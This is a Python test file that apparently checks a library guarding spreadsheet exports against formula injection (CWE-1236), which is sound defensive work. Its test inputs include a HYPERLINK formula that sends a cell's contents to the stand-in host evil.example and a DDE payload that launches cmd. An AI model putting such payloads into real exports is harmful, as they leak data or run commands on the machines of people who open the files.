"""Exported cells never run as formulas in a spreadsheet (CWE-1236)."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from clearance.spreadsheet import csv_cell, csv_dict, csv_row, xlsx_row


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"details")',
                                  "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1", "-", "+49 30 1234567"])
def test_text_a_spreadsheet_would_read_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.5", "+3", "-0,75", "1e-3", "Hikvision",
                                   "Zhejiang Dahua (=Dahua)", " =1+1", "", 0.85, -3, True,
                                   None])
def test_plain_numbers_ordinary_text_and_non_text_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


def test_rows_and_dict_rows_are_made_inert_cell_by_cell() -> None:
    assert csv_row(["=1+1", "Acme", 0.9]) == ["'=1+1", "Acme", 0.9]
    assert csv_dict({"name": "@x", "score": 1}) == {"name": "'@x", "score": 1}


def test_xlsx_keeps_formula_looking_text_unchanged_as_a_string_cell(tmp_path: Path) -> None:
    wb = Workbook(write_only=True)
    sheet = wb.create_sheet("m")
    sheet.append(xlsx_row(sheet, ['=HYPERLINK("http://x","y")', "-2+3", 0.5, "Acme"]))
    wb.save(tmp_path / "m.xlsx")
    cells = next(load_workbook(tmp_path / "m.xlsx")["m"].iter_rows())
    assert [(c.value, c.data_type) for c in cells] == [
        ('=HYPERLINK("http://x","y")', "s"), ("-2+3", "s"), (0.5, "n"), ("Acme", "s")]
